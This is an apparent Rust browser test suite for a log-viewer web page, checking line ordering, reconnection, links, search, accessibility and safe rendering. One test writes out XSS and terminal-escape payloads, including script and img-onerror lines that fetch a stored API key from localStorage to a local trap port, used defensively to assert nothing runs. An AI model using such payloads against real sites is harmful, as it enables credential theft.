//! The log page in a real headless browser (Chromium over WebDriver), against the local stack
//! and the sim: the same guarantees as the CLI (every line once, in order, however late the page
//! opens or however often its WebSocket drops), links to lines, and hostile log text that is
//! shown, never run.

mod common;

use std::time::Duration;

use common::{Kind, Stack, numbered};
use runvoy_webdriver::Browser;
use serde_json::{Value, json};

const WAIT: Duration = Duration::from_secs(60);

/// Where the page's screenshots go: `docs/screenshots` when `RUNVOY_DOCS_SCREENSHOTS` is set
/// (how the ones in the docs were made), the test's directory otherwise.
fn screenshot_path(stack: &Stack, name: &str) -> std::path::PathBuf {
    if std::env::var_os("RUNVOY_DOCS_SCREENSHOTS").is_some() {
        let dir = std::path::Path::new(env!("CARGO_MANIFEST_DIR")).join("../docs/screenshots");
        std::fs::create_dir_all(&dir).unwrap();
        dir.join(name)
    } else {
        stack.dir.join(name)
    }
}

/// Opens `path` of the stack and gives the page the key through its own form, once.
async fn open_with_key(b: &Browser, stack: &Stack, path: &str) {
    b.goto(&format!("{}{path}", stack.url())).await;
    b.wait_for(
        "the key form",
        "return !document.getElementById('key').hidden",
        WAIT,
    )
    .await;
    let input = b.find("#key-input").await;
    b.type_into(&input, &stack.key).await;
    b.type_into(&input, "\u{E007}").await; // Enter
}

/// The line numbers and texts of the rows in the DOM (`visible`: only those inside the
/// visible part of the log).
async fn shown_rows(b: &Browser, visible: bool) -> Vec<(u64, String)> {
    let v = b
        .script(
            "const log = document.getElementById('log').getBoundingClientRect(); \
             return [...document.querySelectorAll('#log .line')].filter(r => { \
               const b = r.getBoundingClientRect(); \
               return !arguments[0] || (b.top >= log.top - 1 && b.bottom <= log.bottom + 1); }) \
             .map(r => [Number(r.dataset.line), r.querySelector('.msg').textContent])",
            vec![json!(visible)],
        )
        .await;
    v.as_array()
        .unwrap()
        .iter()
        .map(|r| (r[0].as_u64().unwrap(), r[1].as_str().unwrap().to_string()))
        .collect()
}

async fn rows(b: &Browser) -> Vec<(u64, String)> {
    shown_rows(b, false).await
}

async fn visible_rows(b: &Browser) -> Vec<(u64, String)> {
    shown_rows(b, true).await
}

async fn wait_lines(b: &Browser, n: usize) {
    b.wait_for(
        &format!("{n} lines"),
        &format!("return document.body.dataset.last === '{n}'"),
        WAIT,
    )
    .await;
}

async fn download(b: &Browser, id: &str) -> String {
    let _ = std::fs::remove_file(b.downloads.join(format!("{id}.log")));
    b.click(&b.find("#download").await).await;
    String::from_utf8(b.downloaded(&format!("{id}.log")).await).unwrap()
}

fn joined(lines: &[String]) -> String {
    lines.iter().map(|l| format!("{l}\n")).collect()
}

/// Asserts the downloaded text is exactly `expected`, one line each, naming the first
/// difference (not the whole text).
fn assert_text(got: &str, expected: &[String], what: &str) {
    if got == joined(expected) {
        return;
    }
    let lines: Vec<&str> = got.lines().collect();
    let first = (0..lines.len().max(expected.len()))
        .find(|&i| lines.get(i).copied() != expected.get(i).map(String::as_str))
        .unwrap_or(0);
    panic!(
        "{what}: {} lines instead of {}; line {} is {:?}, expected {:?}",
        lines.len(),
        expected.len(),
        first + 1,
        lines.get(first),
        expected.get(first)
    );
}

/// A late open of a 20,000-line running execution shows 1..20,000 once, in order, then follows
/// new lines at the tail, and shows the exit badge on completion.
async fn late_open_then_follow(kind: Kind) {
    let stack = Stack::start(kind, "web-late", None).await;
    let id = "web-late-1";
    let backlog = numbered("line", 1, 20_000);
    for chunk in backlog.chunks(5_000) {
        stack.put_lines(id, chunk).await;
    }
    let dir = stack.dir.join("browser");
    std::fs::create_dir_all(&dir).unwrap();
    let b = Browser::start(&dir).await;
    open_with_key(&b, &stack, &format!("/executions/{id}")).await;
    wait_lines(&b, 20_000).await;
    assert_eq!(
        download(&b, id).await,
        joined(&backlog),
        "1..20,000 once, in order"
    );
    // Following: the tail is on screen, and only a screenful of rows is in the DOM.
    let shown = visible_rows(&b).await;
    assert_eq!(shown.last().unwrap(), &(20_000, "line 20000".to_string()));
    let in_dom = rows(&b).await.len();
    assert!(in_dom < 150, "{in_dom} rows in the DOM for 20,000 lines");

    let more = numbered("line", 20_001, 20_300);
    stack.put_lines(id, &more).await;
    wait_lines(&b, 20_300).await;
    b.wait_for(
        "the new tail on screen",
        "const r = [...document.querySelectorAll('#log .line')].pop(); \
         return r && r.dataset.line === '20300' && r.getBoundingClientRect().bottom <= \
           document.getElementById('log').getBoundingClientRect().bottom + 1",
        WAIT,
    )
    .await;
    // Scrolling up pauses following: new lines do not move what the reader looks at; the
    // Follow button brings the tail back.
    b.script("document.getElementById('log').scrollTop -= 3000", vec![])
        .await;
    b.wait_for(
        "following paused",
        "return document.getElementById('follow').getAttribute('aria-pressed') === 'false'",
        WAIT,
    )
    .await;
    let reading = visible_rows(&b).await;
    stack.put_lines(id, &numbered("line", 20_301, 20_400)).await;
    wait_lines(&b, 20_400).await;
    tokio::time::sleep(Duration::from_millis(300)).await;
    assert_eq!(
        visible_rows(&b).await,
        reading,
        "the page moved under the reader"
    );
    b.click(&b.find("#follow").await).await;
    b.wait_for(
        "the tail again",
        "const r = [...document.querySelectorAll('#log .line')].pop(); return r && r.dataset.line === '20400'",
        WAIT,
    )
    .await;
    // Readable: the page's own text (header, line numbers, lines) has at least WCAG AA's 4.5:1
    // contrast against what it is drawn on, and the log can be scrolled from the keyboard.
    let low = b
        .script(
            "const lum = c => { const v = c.match(/[\\d.]+/g).slice(0, 3).map(x => { x = x / 255; \
               return x <= 0.03928 ? x / 12.92 : ((x + 0.055) / 1.055) ** 2.4; }); \
               return 0.2126 * v[0] + 0.7152 * v[1] + 0.0722 * v[2]; }; \
             const bg = el => { for (; el; el = el.parentElement) { const c = getComputedStyle(el).backgroundColor; \
               if (c !== 'rgba(0, 0, 0, 0)' && c !== 'transparent') return c; } return 'rgb(255, 255, 255)'; }; \
             const els = [...document.querySelectorAll('.bar a, .bar span, .bar button, #log .ln, #log .msg')] \
               .filter(e => e.offsetParent && e.textContent.trim()); \
             return els.map(e => { const a = lum(getComputedStyle(e).color), b = lum(bg(e)); \
               return [e.className || e.id || e.tagName, (Math.max(a, b) + 0.05) / (Math.min(a, b) + 0.05)]; }) \
               .filter(([, r]) => r < 4.5)",
            vec![],
        )
        .await;
    assert_eq!(low, json!([]), "text below 4.5:1 contrast");
    b.click(&b.find("#log").await).await;
    let before = b
        .script("return document.getElementById('log').scrollTop", vec![])
        .await;
    b.type_into(&b.find("#log").await, "\u{E00E}").await; // PageUp
    b.wait_for(
        "the log scrolled by the keyboard",
        &format!("return document.getElementById('log').scrollTop < {before}"),
        WAIT,
    )
    .await;
    b.click(&b.find("#follow").await).await;
    let badge_before = b
        .script(
            "return document.getElementById('badge').textContent",
            vec![],
        )
        .await;
    assert_eq!(badge_before, json!("RUNNING"));

    stack.complete(id, "SUCCEEDED", Some(0)).await;
    b.wait_for(
        "the exit badge",
        "return document.body.dataset.status === 'SUCCEEDED'",
        WAIT,
    )
    .await;
    let badge = b
        .script(
            "return document.getElementById('badge').textContent",
            vec![],
        )
        .await;
    assert_eq!(badge, json!("SUCCEEDED · exit 0"));
    let all: Vec<String> = backlog
        .iter()
        .chain(&more)
        .cloned()
        .chain(numbered("line", 20_301, 20_400))
        .collect();
    assert_text(&download(&b, id).await, &all, "every line");

    // The front page lists it (the key is remembered), newest first, with a link to its page.
    stack
        .put_lines("web-late-2", &numbered("other", 1, 3))
        .await;
    let read = common::output(stack.runvoy(&["logs", "web-late-2", "--no-follow"])).await;
    assert_eq!(common::stdout_lines(&read).len(), 3);
    b.goto(&format!("{}/", stack.url())).await;
    let listed = b
        .wait_for(
            "the list of executions",
            "const r = [...document.querySelectorAll('#executions tbody tr')] \
               .map(tr => [...tr.cells].map(c => c.textContent)); return r.length >= 2 ? r : null",
            WAIT,
        )
        .await;
    assert_eq!(listed[0][0], json!("web-late-2"), "{listed}");
    assert_eq!(listed[0][1], json!("RUNNING"));
    assert_eq!(listed[1][0], json!(id));
    assert_eq!(listed[1][1], json!("SUCCEEDED"));
    assert_eq!(listed[1][2], json!("0"));
    b.screenshot(&screenshot_path(
        &stack,
        &format!("list-{kind:?}.png").to_lowercase(),
    ))
    .await;
    b.click(
        &b.find(&format!("#executions a[href='/executions/{id}']"))
            .await,
    )
    .await;
    wait_lines(&b, 20_400).await;
    b.screenshot(&screenshot_path(
        &stack,
        &format!("page-{kind:?}.png").to_lowercase(),
    ))
    .await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_late_page_shows_every_line_once_then_follows_on_the_local_stack() {
    late_open_then_follow(Kind::Local).await;
}

#[tokio::test(flavor = "multi_thread")]
async fn a_late_page_shows_every_line_once_then_follows_on_the_sim() {
    late_open_then_follow(Kind::Sim).await;
}

/// Every WebSocket connection is cut a second after it opens, and the subscription delivers
/// duplicated, reordered and late batches, while the execution writes: the page still shows
/// every line once, in order, and the exit badge.
#[tokio::test(flavor = "multi_thread")]
async fn a_websocket_cut_mid_run_loses_nothing() {
    let stack = Stack::start(
        Kind::Local,
        "web-cut",
        Some("dup=0.3,reorder=0.3,delay-ms=0-200,ws-cut-ms=1000"),
    )
    .await;
    let id = "web-cut-1";
    stack.put_lines(id, &numbered("line", 1, 10)).await;
    let dir = stack.dir.join("browser");
    std::fs::create_dir_all(&dir).unwrap();
    let b = Browser::start(&dir).await;
    open_with_key(&b, &stack, &format!("/executions/{id}")).await;
    wait_lines(&b, 10).await;
    let mut next = 11;
    for _ in 0..40 {
        stack
            .put_lines(id, &numbered("line", next, next + 99))
            .await;
        next += 100;
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let total = next - 1;
    stack.complete(id, "FAILED", Some(3)).await;
    b.wait_for(
        "the exit badge",
        "return document.body.dataset.status === 'FAILED'",
        WAIT,
    )
    .await;
    assert_eq!(
        b.script(
            "return document.getElementById('badge').textContent",
            vec![]
        )
        .await,
        json!("FAILED · exit 3")
    );
    // Reordered deliveries give lines indexes in arrival order (I4 holds within a batch): the
    // page must show exactly what the index holds, as the CLI prints it, each line once.
    let cli = common::output(stack.runvoy(&["logs", id, "--no-follow"])).await;
    let by_index = common::stdout_lines(&cli);
    let mut sorted = by_index.clone();
    sorted.sort_by_key(|l| l[5..].parse::<usize>().unwrap());
    assert_eq!(
        sorted,
        numbered("line", 1, total),
        "each line committed once"
    );
    assert_text(
        &download(&b, id).await,
        &by_index,
        "every line once, in index order",
    );
    let connects: u64 = b
        .script("return Number(document.body.dataset.connects)", vec![])
        .await
        .as_u64()
        .unwrap();
    // Reopened after each cut, later each time (a connection cut within 10 s counts as a
    // failed handshake: spec §7.2's handshake backoff, as the CLI's).
    assert!(
        connects >= 2,
        "the connection was cut and reopened: {connects} connections"
    );
}

/// `#L1234` scrolls to that line and highlights it, a range highlights every line of it, and
/// search finds a line among the loaded ones.
#[tokio::test(flavor = "multi_thread")]
async fn line_links_and_search_find_their_line() {
    let stack = Stack::start(Kind::Local, "web-link", None).await;
    let id = "web-link-1";
    stack.put_lines(id, &numbered("line", 1, 5_000)).await;
    let dir = stack.dir.join("browser");
    std::fs::create_dir_all(&dir).unwrap();
    let b = Browser::start(&dir).await;
    open_with_key(&b, &stack, &format!("/executions/{id}#L1234")).await;
    wait_lines(&b, 5_000).await;
    let highlighted = b
        .wait_for(
            "line 1234 highlighted on screen",
            "const log = document.getElementById('log').getBoundingClientRect(); \
             const l = [...document.querySelectorAll('#log .line.hl')].filter(r => { \
               const b = r.getBoundingClientRect(); return b.top >= log.top && b.bottom <= log.bottom; }) \
             .map(r => r.dataset.line); return l.length ? l : null",
            WAIT,
        )
        .await;
    assert_eq!(highlighted, json!(["1234"]));
    assert!(visible_rows(&b).await.contains(&(1234, "line 1234".into())));
    // Still there after lines keep arriving: a linked line stops following the tail.
    stack.put_lines(id, &numbered("line", 5_001, 5_100)).await;
    wait_lines(&b, 5_100).await;
    assert!(visible_rows(&b).await.contains(&(1234, "line 1234".into())));
    b.screenshot(&screenshot_path(&stack, "page-line-link.png"))
        .await;

    // A range, reached by the address bar as a shared link would be.
    b.goto(&format!("{}/executions/{id}#L10-L20", stack.url()))
        .await;
    wait_lines(&b, 5_100).await;
    let range = b
        .wait_for(
            "lines 10-20 highlighted",
            // Until the new address is rendered, the previous highlight (line 1234) is shown.
            "const l = [...document.querySelectorAll('#log .line.hl')].map(r => Number(r.dataset.line)); \
             return l.length && !l.includes(1234) ? l : null",
            WAIT,
        )
        .await;
    assert_eq!(range, json!((10..=20).collect::<Vec<u64>>()));

    // Search within the loaded lines.
    let search = b.find("#search").await;
    b.type_into(&search, "line 4321\u{E007}").await;
    b.wait_for(
        "the match",
        "return document.getElementById('found').textContent === 'line 4321'",
        WAIT,
    )
    .await;
    // The rows are drawn on the next animation frame after the answer is shown.
    let matched = b
        .wait_for(
            "the match drawn",
            "const l = [...document.querySelectorAll('#log .line.match')].map(r => r.dataset.line); \
             return l.length ? l : null",
            WAIT,
        )
        .await;
    assert_eq!(matched, json!(["4321"]));
    b.type_into(&search, "\u{E003}".repeat(9).as_str()).await; // Backspace
    b.type_into(&search, "no such text\u{E007}").await;
    b.wait_for(
        "no match",
        "return document.getElementById('found').textContent === 'no match'",
        WAIT,
    )
    .await;
}

/// Log text that tries to be HTML, script, a link or a terminal command is shown as text:
/// nothing runs, nothing loads, and the key is never read or sent anywhere.
#[tokio::test(flavor = "multi_thread")]
async fn hostile_log_text_is_shown_never_run() {
    let stack = Stack::start(Kind::Local, "web-hostile", None).await;
    // Anything the page is tricked into fetching lands here.
    let trap = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
    let port = trap.local_addr().unwrap().port();
    let hits = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let counted = hits.clone();
    tokio::spawn(async move {
        while trap.accept().await.is_ok() {
            counted.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
        }
    });
    let exfil =
        format!("fetch('http://127.0.0.1:{port}/k?'+localStorage.getItem('runvoy.apiKey'))");
    let lines = vec![
        format!("<script>window.__pwned=1;{exfil}</script>"),
        format!("<img src=x onerror=\"window.__pwned=1;{exfil}\">"),
        format!("<img src=\"http://127.0.0.1:{port}/plain.png\">"),
        format!("\x1b]8;;http://127.0.0.1:{port}/osc8\x1b\\click me\x1b]8;;\x1b\\"),
        "\x1b[31m<b onmouseover=alert(1)>red</b>\x1b[0m plain".to_string(),
        format!("\x1b[38;2;1;2;3);background:url(http://127.0.0.1:{port}/css)m styled?"),
        format!("</span></div><a href=\"http://127.0.0.1:{port}/a\">a link</a>"),
        "\x1b]0;retitled\x07 and \x1b]52;c;ZXZpbA==\x07 clipboard".to_string(),
        "safe\rforged".to_string(),
        "\x1b[1;32mPASS\x1b[0m colours: \x1b[33myellow\x1b[0m \x1b[38;5;208m256-orange\x1b[0m \x1b[38;2;120;160;255mtruecolor\x1b[0m \x1b[7minverse\x1b[0m".to_string(),
    ];
    let id = "web-hostile-1";
    stack.put_lines(id, &lines).await;
    let dir = stack.dir.join("browser");
    std::fs::create_dir_all(&dir).unwrap();
    let b = Browser::start(&dir).await;
    open_with_key(&b, &stack, &format!("/executions/{id}")).await;
    wait_lines(&b, lines.len()).await;
    // Click the text that pretends to be a link, and hover the one with a handler.
    b.click(&b.find("#log .line[data-line='7'] .msg").await)
        .await;
    b.click(&b.find("#log .line[data-line='5'] .msg").await)
        .await;
    tokio::time::sleep(Duration::from_secs(2)).await;

    assert_eq!(
        hits.load(std::sync::atomic::Ordering::SeqCst),
        0,
        "the page fetched something a log line named"
    );
    let verdict = b
        .script(
            "return { pwned: window.__pwned === undefined ? null : window.__pwned, \
               elements: document.querySelectorAll('#log img, #log script, #log b, #log a:not(.ln), #log iframe').length, \
               title: document.title, href: location.href, \
               urls: performance.getEntriesByType('resource').map(e => e.name) }",
            vec![],
        )
        .await;
    assert_eq!(verdict["pwned"], Value::Null, "a line ran as script");
    assert_eq!(verdict["elements"], json!(0), "a line became markup");
    assert_eq!(verdict["title"], json!(format!("{id} · runvoy logs")));
    assert_eq!(
        verdict["href"],
        json!(format!("{}/executions/{id}", stack.url()))
    );
    for url in verdict["urls"].as_array().unwrap() {
        let url = url.as_str().unwrap();
        assert!(!url.contains(&stack.key), "the key is in a URL: {url}");
        assert!(
            url.starts_with(&stack.url()),
            "the page contacted another origin: {url}"
        );
    }
    let shown: Vec<String> = rows(&b).await.into_iter().map(|(_, t)| t).collect();
    assert_eq!(shown[0], lines[0], "markup is shown as text");
    assert_eq!(shown[1], lines[1]);
    assert_eq!(
        shown[3],
        "^[]8;;http://127.0.0.1:PORT/osc8^[\\click me^[]8;;^[\\".replace("PORT", &port.to_string())
    );
    assert_eq!(
        shown[4], "<b onmouseover=alert(1)>red</b> plain",
        "colours render, markup does not"
    );
    assert!(
        shown[5].starts_with("^[[38;2;1;2;3);background:url("),
        "{}",
        shown[5]
    );
    assert_eq!(shown[7], "^[]0;retitled^G and ^[]52;c;ZXZpbA==^G clipboard");
    assert_eq!(shown[8], "safe^Mforged");
    let red = b
        .script(
            "return getComputedStyle(document.querySelector(\"#log .line[data-line='5'] .msg span\")).color",
            vec![],
        )
        .await;
    assert_eq!(red, json!("rgb(224, 108, 117)"), "SGR 31 is rendered red");
    b.screenshot(&screenshot_path(&stack, "page-hostile-text.png"))
        .await;

    // The policy every page response carries.
    let r = reqwest::get(format!("{}/executions/{id}", stack.url()))
        .await
        .unwrap();
    let csp = r.headers()["content-security-policy"]
        .to_str()
        .unwrap()
        .to_string();
    assert!(
        csp.contains("script-src 'self';") && csp.contains("default-src 'none'"),
        "{csp}"
    );
    assert!(
        !csp.contains("unsafe-inline") && !csp.contains("unsafe-eval"),
        "{csp}"
    );
}

/// The page opened for an execution that has not written a line yet waits for it (saying so),
/// then shows its lines and its end, as `runvoy logs` does.
#[tokio::test(flavor = "multi_thread")]
async fn a_page_opened_before_the_first_line_waits_for_it() {
    let stack = Stack::start(Kind::Local, "web-early", None).await;
    let id = "web-early-1";
    let dir = stack.dir.join("browser");
    std::fs::create_dir_all(&dir).unwrap();
    let b = Browser::start(&dir).await;
    open_with_key(&b, &stack, &format!("/executions/{id}")).await;
    b.wait_for(
        "the waiting notice",
        "return document.body.dataset.connection === 'waiting' && document.getElementById('notice').textContent.includes('waiting for execution web-early-1 to start')",
        WAIT,
    )
    .await;
    tokio::time::sleep(Duration::from_secs(3)).await;
    stack.put_lines(id, &numbered("early", 1, 50)).await;
    wait_lines(&b, 50).await;
    stack.complete(id, "SUCCEEDED", Some(0)).await;
    b.wait_for(
        "the end",
        "return document.body.dataset.status === 'SUCCEEDED'",
        WAIT,
    )
    .await;
    assert_text(
        &download(&b, id).await,
        &numbered("early", 1, 50),
        "every line once",
    );
}

/// A line of a million control characters (or of alternating ones, which used to become a span
/// each) is shown in a bounded number of nodes, and the page stays responsive.
#[tokio::test(flavor = "multi_thread")]
async fn a_megabyte_of_control_characters_does_not_freeze_the_page() {
    let stack = Stack::start(Kind::Local, "web-ctl", None).await;
    let id = "web-ctl-1";
    let runs = "\u{1}".repeat(1_000_000);
    let alternating: String = (0..250_000).map(|_| "\u{1}a").collect();
    stack
        .put_lines(id, &[runs, alternating, "after".to_string()])
        .await;
    let dir = stack.dir.join("browser");
    std::fs::create_dir_all(&dir).unwrap();
    let b = Browser::start(&dir).await;
    open_with_key(&b, &stack, &format!("/executions/{id}")).await;
    wait_lines(&b, 3).await;
    let nodes = b
        .script(
            "return [...document.querySelectorAll('#log .line .msg')].map(m => m.childNodes.length)",
            vec![],
        )
        .await;
    let most = nodes
        .as_array()
        .unwrap()
        .iter()
        .map(|n| n.as_u64().unwrap())
        .max()
        .unwrap();
    assert!(most <= 1_010, "a line became {most} nodes");
    // Still answering: a script returns at once.
    let started = std::time::Instant::now();
    assert_eq!(b.script("return 1 + 1", vec![]).await, json!(2));
    assert!(started.elapsed() < Duration::from_secs(5));
}
